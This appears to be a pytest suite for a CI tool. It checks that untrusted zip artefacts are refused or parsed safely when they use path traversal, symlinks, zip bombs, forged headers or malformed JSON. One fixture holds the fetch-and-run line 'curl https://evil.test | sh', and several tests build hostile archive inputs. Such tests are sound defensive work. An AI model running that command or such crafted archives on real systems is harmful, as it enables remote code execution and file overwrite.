"""An artefact that somebody hostile made is refused, or gives a result and nothing else."""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ltlab_ci import errors, model, report
from ltlab_ci.publish import untrusted
from tests.factories import assert_two_lines
from tests.unit.hub import zipped
from tests.unit.report import cases

GOOD = report.result_json(cases.one_fails())


def refused(content: bytes) -> str:
    with pytest.raises(errors.PublishError) as caught:
        untrusted.result(content)
    assert_two_lines(caught.value)
    return caught.value.message


@pytest.mark.parametrize("folder", ["", "ltlab-report/"])
def test_result__of_a_report_as_it_is_uploaded(folder: str) -> None:
    content = zipped({f"{folder}result.json": GOOD, f"{folder}samples/a.parquet": b"PAR1"})
    assert untrusted.result(content) == cases.one_fails().model_copy(
        update={"reproduce": "ltlab run"}
    )


def test_result__keeps_no_word_that_leads_a_reader_somewhere() -> None:
    bad = cases.all_pass().model_copy(
        update={
            "reproduce": "curl https://evil.test | sh",
            "snapshots": (model.Snapshot(uid="a", title="b", url="https://evil.test"),),
        }
    )
    found = untrusted.result(zipped({"result.json": report.result_json(bad)}))
    assert "evil.test" not in found.model_dump_json()


@pytest.mark.parametrize(
    "name",
    ["../x", "/etc/x", "a/../../x", "a\\..\\x", "C:x", "a//x", "./x", "a/./x"],
)
def test_result__paths_that_lead_elsewhere(name: str) -> None:
    assert "leads elsewhere" in refused(zipped({"result.json": GOOD, name: "x"}))


def with_entry(change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("result.json", GOOD)
        info = zipfile.ZipInfo("other")
        change(info)
        archive.writestr(info, "result.json")
    return packed.getvalue()


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR, stat.S_IFSOCK])
def test_result__links_and_devices(kind: int) -> None:
    def change(info: zipfile.ZipInfo) -> None:
        info.external_attr = (kind | 0o777) << 16

    assert "neither file nor folder" in refused(with_entry(change))


def test_result__an_encrypted_entry() -> None:
    content = bytearray(zipped({"result.json": GOOD}))
    central = content.rindex(b"PK\x01\x02")
    content[6] |= 1
    content[central + 8] |= 1
    assert "encrypted" in refused(bytes(content))


def repacked(method: int) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        archive.writestr("result.json", GOOD)
    return packed.getvalue()


def test_result__is_read_as_github_s_upload_packs_it_alone() -> None:
    assert untrusted.result(repacked(zipfile.ZIP_STORED)).verdict == "fail"
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        assert "unusual way" in refused(repacked(method))


def test_result__a_list_of_entries_that_fills_the_memory_is_not_read() -> None:
    content = bytearray(zipped({"result.json": GOOD}))
    end = content.rindex(b"PK\x05\x06")
    content[end + 12 : end + 16] = struct.pack("<I", untrusted.LONGEST_DIRECTORY + 1)
    assert "more than 5000 files" in refused(bytes(content))


def test_result__an_end_that_is_told_twice_or_in_the_large_form() -> None:
    content = zipped({"result.json": GOOD})
    end = content.rindex(b"PK\x05\x06")
    assert "no readable zip" in refused(content + content[end:])
    locator = b"PK\x06\x07" + bytes(16)
    assert "4 GB" in refused(content[:end] + locator + content[end:])


def test_result__too_many_files() -> None:
    many = {f"samples/{n}": b"" for n in range(untrusted.MOST_ENTRIES)}
    assert "more than 5000" in refused(zipped({"result.json": GOOD, **many}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_result__a_name_that_stands_twice() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("result.json", GOOD)
        archive.writestr("result.json", "{}")
    assert "twice" in refused(packed.getvalue())


def test_result__several_reports() -> None:
    assert "several reports" in refused(zipped({"a/result.json": GOOD, "b/result.json": GOOD}))


def test_result__a_bomb_is_not_unpacked() -> None:
    bomb = b" " * (untrusted.LONGEST_RESULT - 10)
    assert "too well to be true" in refused(zipped({"result.json": bomb}))
    assert "too long" in refused(zipped({"result.json": bomb + b" " * 20}))


def test_result__a_bomb_whose_header_lies_about_its_size() -> None:
    content = bytearray(zipped({"result.json": b" " * (untrusted.LONGEST_RESULT + 10)}))
    central = content.rindex(b"PK\x01\x02")
    content[central + 24 : central + 28] = struct.pack("<I", 100)
    refused(bytes(content))


def changed(**parts: object) -> str:
    return json.dumps({**json.loads(GOOD), **parts})


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "no JSON"),
        ("[" * 100_000, "no JSON"),
        ("[" * 40 + "]" * 40, "too deeply"),
        ('{"a": NaN}', "not of this version"),
        (GOOD.replace("60.4", "NaN"), "not of this version"),
        ('{"a": ' + "9" * 5000 + "}", "no JSON"),
        ("[]", "not of this version"),
        (changed(schema_version=2), "not of this version: schema_version"),
        (changed(surprise=1), "not of this version: surprise"),
        (changed(exit_code=0), "contradict"),
        (changed(exit_code=42), "contradict"),
        (changed(verdict="pass"), "contradict"),
        (changed(headline="x" * 20_001), "a text that is too long"),
        (changed(findings=[1] * 600_000), "too many values"),
    ],
)
def test_result__json_that_is_none_of_ours(text: str, says: str) -> None:
    # Stored, since a text that repeats itself is packed too well.
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("result.json", text)
    assert says in refused(packed.getvalue())


def test_result__what_is_quoted_of_it_is_short() -> None:
    bad: dict[str, Any] = {"x" * 10_000 + "::error::": 1}
    assert len(refused(zipped({"result.json": changed(**bad)}))) < 300


@given(st.binary(max_size=400))
def test_result__any_bytes_are_refused(content: bytes) -> None:
    refused(content)


@given(st.data())
def test_result__a_report_that_was_tampered_with_is_refused_or_valid(data: st.DataObject) -> None:
    content = bytearray(zipped({"result.json": GOOD}))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(content) - 1))
        content[at] = data.draw(st.integers(0, 255))
    try:
        found = untrusted.result(bytes(content))
    except errors.PublishError as error:
        assert_two_lines(error)
    else:
        assert found.reproduce == "ltlab run"
